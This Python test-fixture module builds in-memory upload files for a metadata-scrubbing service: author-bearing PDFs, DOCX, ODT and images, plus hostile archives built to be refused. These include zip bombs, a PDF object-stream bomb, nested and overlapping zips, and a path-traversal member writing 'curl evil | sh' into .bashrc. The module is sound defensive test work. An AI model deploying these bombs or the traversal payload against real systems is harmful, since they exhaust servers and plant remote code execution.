"""Files to upload, made in memory: one of each accepted kind, documents that carry their
authors' names, and files built to be refused (zip bombs among them)."""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from pathlib import Path

import pikepdf
from flask import Flask
from PIL import Image
from PIL.PngImagePlugin import PngInfo

AUTHOR = "Jo Whistleblower"  # the name no cleaned file may still carry
PAGE_TEXT = "Caseload at 130 percent"


# ---------------------------------------------------------------- PDF


def pdf_bytes(*, author: str | None = None, text: str = PAGE_TEXT) -> bytes:
    """A one-page PDF made by pikepdf; with ``author``, in its Info dictionary and its XMP too."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0]
    font = pdf.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
    )
    page.obj.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
    page.obj.Contents = pdf.make_stream(f"BT /F1 14 Tf 72 760 Td ({text}) Tj ET".encode())
    if author:
        pdf.docinfo["/Author"] = author
        pdf.docinfo["/Creator"] = f"Word for {author}"
        with pdf.open_metadata(set_pikepdf_as_editor=False) as meta:
            meta["dc:creator"] = [author]
            meta["xmp:CreatorTool"] = f"Scanner of {author}"
    out = io.BytesIO()
    pdf.save(out, compress_streams=False)  # plain streams: a test can look for words in the bytes
    return out.getvalue()


def pdf_text(data: bytes) -> str:
    """The words on a PDF's pages, as a reader extracts them."""
    from pypdf import PdfReader

    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages).strip()


def pdf_with_earlier_revision(earlier_text: str, later_text: str) -> bytes:
    """A PDF saved twice, incrementally: the page's words replaced, the earlier ones still in the file."""
    original = pdf_bytes(text=earlier_text)
    with pikepdf.open(io.BytesIO(original)) as pdf:
        contents = pdf.pages[0].obj.Contents.objgen[0]
        size = int(pdf.trailer.Size)
        root = pdf.Root.objgen[0]
    previous_xref = int(re.findall(rb"startxref\s+(\d+)", original)[-1])
    stream = f"BT /F1 14 Tf 72 760 Td ({later_text}) Tj ET".encode()
    body = b"%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (contents, len(stream), stream)
    xref_at = len(original) + len(body)
    update = (
        body
        + b"xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00000 n \n" % (contents, len(original))
        + b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (size, root, previous_xref, xref_at)
    )
    return original + update


def pdf_object_stream_bomb(inflated: int) -> bytes:
    """A PDF whose catalog sits in an object stream that inflates to ``inflated`` bytes:
    qpdf must inflate it whole to read the document at all."""
    objects = [b"<< /Type /Catalog /Pages 4 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]
    offsets, body = [], b""
    for obj in objects:
        offsets.append(len(body))
        body += obj + b" "
    index = b"2 %d 4 %d " % tuple(offsets)
    packer = zlib.compressobj(9)
    packed = packer.compress(index + body)
    padding = b" " * (1024 * 1024)
    for _ in range((inflated - len(index) - len(body)) // len(padding)):
        packed += packer.compress(padding)
    packed += packer.flush()
    head = b"%PDF-1.7\n"
    stream_obj = b"1 0 obj\n<< /Type /ObjStm /N 2 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        len(index),
        len(packed),
    )
    stream_obj += packed + b"\nendstream\nendobj\n"
    xref_at = len(head) + len(stream_obj)
    rows = [(0, 0, 65535), (1, len(head), 0), (2, 1, 0), (1, xref_at, 0), (2, 1, 1)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    xref = b"3 0 obj\n<< /Type /XRef /Size 5 /W [1 4 2] /Root 2 0 R /Length %d >>\nstream\n" % len(table)
    xref += table + b"\nendstream\nendobj\n"
    return head + stream_obj + xref + b"startxref\n%d\n%%%%EOF\n" % xref_at


# ---------------------------------------------------------------- DOCX and ODT

_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
_OFFICE_TYPE = "application/vnd.openxmlformats-officedocument"
_CORE_TYPE = "application/vnd.openxmlformats-package.core-properties+xml"


def docx_bytes(*, author: str | None = None, image: bytes | None = None, embedded: bytes | None = None) -> bytes:
    """A Word document as Word writes one; ``author`` fills its core, app and custom properties,
    ``image`` goes in as a picture, ``embedded`` as an embedded workbook (an archive inside)."""
    overrides = [
        f'<Override PartName="/word/document.xml" ContentType="{_OFFICE_TYPE}.wordprocessingml.document.main+xml"/>'
    ]
    rels = [f'<Relationship Id="rId1" Type="{_OFFICE_RELS}/officeDocument" Target="word/document.xml"/>']
    parts: dict[str, str | bytes] = {
        "word/document.xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            f"<w:body><w:p><w:r><w:t>{PAGE_TEXT}</w:t></w:r></w:p></w:body></w:document>"
        )
    }
    document_rels = []
    if author:
        overrides += [
            f'<Override PartName="/docProps/core.xml" ContentType="{_CORE_TYPE}"/>',
            f'<Override PartName="/docProps/app.xml" ContentType="{_OFFICE_TYPE}.extended-properties+xml"/>',
            f'<Override PartName="/docProps/custom.xml" ContentType="{_OFFICE_TYPE}.custom-properties+xml"/>',
        ]
        rels += [
            f'<Relationship Id="rId2" Type="{_RELS}/metadata/core-properties" Target="docProps/core.xml"/>',
            f'<Relationship Id="rId3" Type="{_OFFICE_RELS}/extended-properties" Target="docProps/app.xml"/>',
            f'<Relationship Id="rId4" Type="{_OFFICE_RELS}/custom-properties" Target="/docProps/custom.xml"/>',
        ]
        parts["docProps/core.xml"] = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<cp:coreProperties '
            'xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
            'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>' + author + "</dc:creator>"
            "<cp:lastModifiedBy>" + author + "</cp:lastModifiedBy></cp:coreProperties>"
        )
        parts["docProps/app.xml"] = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Properties '
            'xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
            f"<Template>C:\\Users\\{author}\\Normal.dotm</Template><Company>Office of {author}</Company></Properties>"
        )
        parts["docProps/custom.xml"] = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Properties '
            'xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" '
            'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
            '<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="Informant">'
            f"<vt:lpwstr>{author}</vt:lpwstr></property></Properties>"
        )
    if image is not None:
        parts["word/media/image1.jpeg"] = image
        document_rels.append(f'<Relationship Id="rId7" Type="{_OFFICE_RELS}/image" Target="media/image1.jpeg"/>')
    if embedded is not None:
        parts["word/embeddings/Workbook1.xlsx"] = embedded
        document_rels.append(
            f'<Relationship Id="rId8" Type="{_OFFICE_RELS}/package" Target="embeddings/Workbook1.xlsx"/>'
        )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            f'<Types xmlns="{_TYPES}">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Default Extension="jpeg" ContentType="image/jpeg"/>'
            f'<Default Extension="xlsx" ContentType="{_OFFICE_TYPE}.spreadsheetml.sheet"/>'
            + "".join(overrides)
            + "</Types>",
        )
        archive.writestr(
            "_rels/.rels",
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{_RELS}">'
            + "".join(rels)
            + "</Relationships>",
        )
        if document_rels:
            archive.writestr(
                "word/_rels/document.xml.rels",
                f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{_RELS}">'
                + "".join(document_rels)
                + "</Relationships>",
            )
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def xlsx_bytes(*, author: str) -> bytes:
    """A bare workbook with its author in its core properties (to embed in a DOCX)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            f'<Types xmlns="{_TYPES}"><Override PartName="/docProps/core.xml" ContentType="{_CORE_TYPE}"/></Types>',
        )
        archive.writestr(
            "_rels/.rels",
            f'<Relationships xmlns="{_RELS}"><Relationship Id="rId1" Type="{_OFFICE_RELS}/officeDocument" '
            f'Target="xl/workbook.xml"/><Relationship Id="rId2" Type="{_RELS}/metadata/core-properties" '
            'Target="docProps/core.xml"/></Relationships>',
        )
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr(
            "docProps/core.xml",
            '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
            f'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>{author}</dc:creator></cp:coreProperties>',
        )
    return buffer.getvalue()


_MANIFEST = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"


def odt_bytes(*, author: str | None = None) -> bytes:
    """An OpenDocument text as LibreOffice writes one; ``author`` fills its meta.xml."""
    entries = ["/", "content.xml"] + (["meta.xml"] if author else [])
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text", compress_type=zipfile.ZIP_STORED
        )
        archive.writestr(
            "content.xml",
            '<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content '
            'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
            'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.3">'
            f"<office:body><office:text><text:p>{PAGE_TEXT}</text:p></office:text></office:body>"
            "</office:document-content>",
        )
        if author:
            archive.writestr(
                "meta.xml",
                '<?xml version="1.0" encoding="UTF-8"?>\n<office:document-meta '
                'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
                'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
                'xmlns:dc="http://purl.org/dc/elements/1.1/" office:version="1.3"><office:meta>'
                f"<meta:initial-creator>{author}</meta:initial-creator><dc:creator>{author}</dc:creator>"
                "</office:meta></office:document-meta>",
            )
        archive.writestr(
            "META-INF/manifest.xml",
            f'<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest xmlns:manifest="{_MANIFEST}" '
            'manifest:version="1.3">'
            + "".join(
                f'<manifest:file-entry manifest:full-path="{entry}" manifest:media-type="'
                + ("application/vnd.oasis.opendocument.text" if entry == "/" else "text/xml")
                + '"/>'
                for entry in entries
            )
            + "</manifest:manifest>",
        )
    return buffer.getvalue()


# ---------------------------------------------------------------- images


def jpeg_with_gps() -> bytes:
    image = Image.new("RGB", (40, 30), (200, 30, 30))
    exif = Image.Exif()
    exif[0x0131] = "SecretCam 9000"  # Software
    gps = exif.get_ifd(0x8825)
    gps[1] = "N"
    gps[2] = (51.0, 30.0, 12.5)
    out = io.BytesIO()
    image.save(out, format="JPEG", exif=exif)
    return out.getvalue()


def png_with_text() -> bytes:
    info = PngInfo()
    info.add_text("Author", "Private Person")
    out = io.BytesIO()
    Image.new("RGB", (20, 20), (0, 90, 200)).save(out, format="PNG", pnginfo=info)
    return out.getvalue()


def png_of(width: int, height: int) -> bytes:
    """A one-colour PNG of any size: tiny on disk, ``width × height`` pixels once decoded."""
    out = io.BytesIO()
    Image.new("1", (width, height)).save(out, format="PNG")
    return out.getvalue()


EML = (
    b"From: Team Manager <manager@example.org>\r\nTo: rep@example.org\r\nSubject: Allocation\r\n"
    b"Date: Mon, 2 Nov 2026 09:00:00 +0000\r\n\r\nTen more cases this week.\r\n"
)
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"


# ---------------------------------------------------------------- archives built to be refused

GIB = 1024**3


def zip_bomb(path: Path, *, inflated: int = GIB, member: str = "word/document.xml") -> Path:
    """A DOCX-shaped zip whose one member inflates from about 1 MB to ``inflated`` bytes of zeros.

    Written by zipfile in 1 MB chunks to a file, so building it holds no more than that; its
    directory states the true sizes (a reader that believed them would still be in trouble)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        if member != "word/document.xml":
            archive.writestr("word/document.xml", "<w:document/>")
        chunk = bytes(1024 * 1024)
        with archive.open(member, "w", force_zip64=inflated >= 2 * GIB) as target:
            for _ in range(inflated // len(chunk)):
                target.write(chunk)
    return path


def loosely_packed(path: Path, *, inflated: int) -> Path:
    """A DOCX whose document inflates to ``inflated`` bytes at about 24 : 1, an honest ratio: the
    size cap, not the ratio cap, must be what stops it, and memory must not grow with it."""
    import random

    noise = random.Random(7).randbytes(40 * 1024)
    chunk = noise + bytes(1024 * 1024 - len(noise))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=inflated >= 2 * GIB) as target:
            for _ in range(inflated // len(chunk)):
                target.write(chunk)
    return path


def nested_zips(depth: int, inner: bytes | None = None) -> bytes:
    """A DOCX holding an archive holding an archive… ``depth`` levels down."""
    data = inner if inner is not None else docx_bytes()
    for level in range(depth):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            if level == depth - 1:
                archive.writestr("[Content_Types].xml", "<Types/>")
                archive.writestr("word/document.xml", "<w:document/>")
            archive.writestr(f"word/embeddings/level{level}.zip", data)
        data = buffer.getvalue()
    return data


def many_members(count: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
        for n in range(count):
            archive.writestr(f"word/media/{n}.xml", "<x/>")
    return buffer.getvalue()


def _central_entries(data: bytes) -> list[int]:
    return [match.start() for match in re.finditer(rb"PK\x01\x02", data)]


def overlapping_members() -> bytes:
    """Two directory entries pointing at the same bytes: one block counted as two files."""
    data = bytearray(docx_bytes())
    first, second = _central_entries(bytes(data))[:2]
    (offset,) = struct.unpack_from("<I", data, first + 42)
    struct.pack_into("<I", data, second + 42, offset)
    return bytes(data)


def encrypted_flag(data: bytes) -> bytes:
    """The same archive with its members marked encrypted (bit 0 of their flags)."""
    patched = bytearray(data)
    for at in _central_entries(data):
        (flags,) = struct.unpack_from("<H", patched, at + 8)
        struct.pack_into("<H", patched, at + 8, flags | 1)
    return bytes(patched)


def lying_directory(data: bytes, claimed: int = 1000) -> bytes:
    """A zip whose directory understates every member's inflated size."""
    patched = bytearray(data)
    for at in _central_entries(data):
        (size,) = struct.unpack_from("<I", patched, at + 24)
        if size != 0xFFFFFFFF:
            struct.pack_into("<I", patched, at + 24, min(size, claimed))
    return bytes(patched)


def escaping_member() -> bytes:
    """A DOCX with a member whose path leads out of wherever it is unzipped."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
        archive.writestr("word/../../../.bashrc", "curl evil | sh")
    return buffer.getvalue()


def bzip2_docx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_BZIP2) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


def stored_files(app: Flask) -> list[str]:
    """The names of the files in the store, whatever record they belong to (or none)."""
    root = Path(app.config["INSTANCE_FILES_DIR"])
    return sorted(p.name for p in root.iterdir()) if root.exists() else []
